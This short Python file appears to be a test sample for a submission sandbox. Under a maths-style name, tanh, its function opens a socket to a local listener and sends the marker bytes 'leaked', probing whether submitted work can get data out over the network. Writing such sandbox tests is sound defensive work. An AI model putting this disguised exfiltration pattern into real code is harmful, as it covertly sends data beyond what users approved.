"""Attack: send the hand-in out over the network (to a listener on 127.0.0.1)."""

import socket


def tanh(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            connection.sendall(b"leaked")
        return "connected"
    except OSError as error:
        return f"failed: {type(error).__name__}"
